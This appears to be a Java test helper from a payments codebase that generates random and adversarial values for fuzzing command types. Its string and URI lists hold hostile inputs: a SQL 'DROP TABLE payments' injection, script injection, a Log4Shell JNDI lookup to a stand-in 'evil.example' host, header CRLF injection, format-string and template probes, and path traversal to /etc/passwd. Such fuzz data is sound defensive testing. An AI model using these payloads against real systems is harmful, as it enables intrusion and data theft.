package dev.gatehouse.fake;

import dev.gatehouse.operations.Page;
import dev.gatehouse.store.JoinedTransaction;
import java.lang.reflect.Constructor;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.SortedSet;
import java.util.TreeSet;
import java.util.function.Consumer;
import org.joda.money.CurrencyUnit;
import org.joda.money.Money;
import org.jspecify.annotations.Nullable;

/**
 * Makes values of any type that a command may hold: sound ones, absurd ones, hostile ones, null.
 */
public final class Nonsense {
  /** A card number that may never be seen again. */
  public static final String CARD = "4111111111111111";

  /** Texts that no identifier may be. */
  public static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "a\r\nX-Injected: 1",
          "\u202Egnp.exe",
          "\uD800",
          "\u200B",
          "'; DROP TABLE payments;--",
          "<script>alert(1)</script>",
          "%s%n%x%1000000d",
          "${jndi:ldap://evil.example/x}",
          "{value}${7*7}#{7*7}",
          "../../etc/passwd",
          "مرحبا 🎉 東京",
          CARD,
          "4111 1111 1111 1111",
          "x".repeat(1 << 20));

  private static final List<String> URIS =
      List.of(
          "https://shop.example/back",
          "http://shop.example/back",
          "javascript:alert(1)",
          "https:opaque",
          "//shop.example",
          "https://user:pw@shop.example/",
          "https://shop.example:99999/",
          "file:///etc/passwd",
          "https://shop.example/" + "a".repeat(5_000),
          "");

  private final Random random;
  private final Map<Class<?>, List<Object>> known = new HashMap<>();

  /** With this seed. */
  public Nonsense(long seed) {
    random = new Random(seed);
  }

  /** A value that means something here. */
  public Nonsense knowing(Object value) {
    known.computeIfAbsent(value.getClass(), type -> new ArrayList<>()).add(value);
    return this;
  }

  /** A value of a type, sound or not; may throw what the type's constructor throws. */
  public @Nullable Object of(Type type) throws Throwable {
    if (type instanceof ParameterizedType generic) {
      return random.nextInt(20) == 0 ? null : container(generic);
    }
    Class<?> raw = (Class<?>) type;
    if (raw == boolean.class) {
      return random.nextBoolean();
    }
    if (raw == int.class) {
      return pick(List.of(1, 2, 0, -1, 100_000, 100_001, Integer.MAX_VALUE, Integer.MIN_VALUE));
    }
    if (random.nextInt(15) == 0) {
      return null;
    }
    if (known.containsKey(raw) && random.nextInt(4) > 0) {
      return pick(known.get(raw));
    }
    return plain(raw);
  }

  private @Nullable Object plain(Class<?> raw) throws Throwable {
    if (raw == String.class) {
      return random.nextBoolean() ? "key-" + random.nextInt(50) : pick(TEXTS);
    }
    if (raw == Money.class) {
      return money();
    }
    if (raw == URI.class) {
      return URI.create(pick(URIS));
    }
    if (raw == Duration.class) {
      return pick(
          List.of(
              Duration.ofHours(1),
              Duration.ZERO,
              Duration.ofSeconds(-1),
              Duration.ofSeconds(Long.MAX_VALUE),
              Duration.ofSeconds(Long.MIN_VALUE)));
    }
    if (raw == Instant.class) {
      return pick(List.of(Instant.EPOCH, Instant.MIN, Instant.MAX));
    }
    if (raw == YearMonth.class) {
      return pick(List.of(YearMonth.of(2030, 4), YearMonth.of(0, 1), YearMonth.of(-1, 1)));
    }
    if (raw == Locale.class) {
      return pick(List.of(Locale.GERMANY, Locale.ROOT, Locale.forLanguageTag("ar-EG-u-nu-arab")));
    }
    if (raw == byte[].class) {
      return new byte[pick(List.of(0, 1, 1 << 20, (1 << 20) + 1))];
    }
    if (raw.isEnum()) {
      return pick(List.of(raw.getEnumConstants()));
    }
    if (raw == Long.class) {
      return pick(List.of(1L, 0L, -1L, Long.MAX_VALUE, Long.MIN_VALUE));
    }
    if (raw.isSealed()) {
      return of(pick(List.of(raw.getPermittedSubclasses())));
    }
    if (raw == JoinedTransaction.class) {
      return (JoinedTransaction) () -> null;
    }
    return record(raw);
  }

  private Object record(Class<?> raw) throws Throwable {
    RecordComponent[] components = raw.getRecordComponents();
    Object[] values = new Object[components.length];
    Class<?>[] types = new Class<?>[components.length];
    for (int i = 0; i < components.length; i++) {
      values[i] = of(components[i].getGenericType());
      types[i] = components[i].getType();
    }
    Constructor<?> canonical = raw.getDeclaredConstructor(types);
    try {
      return canonical.newInstance(values);
    } catch (InvocationTargetException e) {
      throw e.getCause();
    }
  }

  private Object container(ParameterizedType generic) throws Throwable {
    if (generic.getRawType() == Consumer.class) {
      return (Consumer<Object>) value -> {};
    }
    Type element = generic.getActualTypeArguments()[0];
    if (generic.getRawType() == Optional.class) {
      return random.nextBoolean() ? Optional.empty() : Optional.ofNullable(of(element));
    }
    if (generic.getRawType() == List.class) {
      return switch (random.nextInt(60)) {
        case 0 -> Collections.nCopies(10_000, of(element));
        case 1, 2, 3 -> Arrays.asList(of(element), null);
        case 4, 5, 6 -> List.of();
        default -> Arrays.asList(of(element), of(element));
      };
    }
    if (generic.getRawType() == SortedSet.class) {
      SortedSet<Object> set =
          new TreeSet<>(Comparator.nullsFirst(Comparator.comparing(Object::toString)));
      for (int i = random.nextInt(3); i > 0; i--) {
        set.add(of(element));
      }
      return set;
    }
    if (generic.getRawType() == Page.class) {
      return new Page<>((Integer) of(int.class), Optional.ofNullable(of(element)));
    }
    Map<Object, Object> map = new HashMap<>();
    map.put(of(element), of(generic.getActualTypeArguments()[1]));
    return map;
  }

  private Money money() {
    String currency = pick(List.of("USD", "USD", "USD", "EUR", "JPY", "KWD", "XXX", "XAU"));
    String amount =
        pick(List.of("10", "10", "1", "0", "-1", "500", "1e15", "1e19", "-1e30", "1e4000"));
    return Money.of(CurrencyUnit.of(currency), new BigDecimal(amount));
  }

  private <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }
}
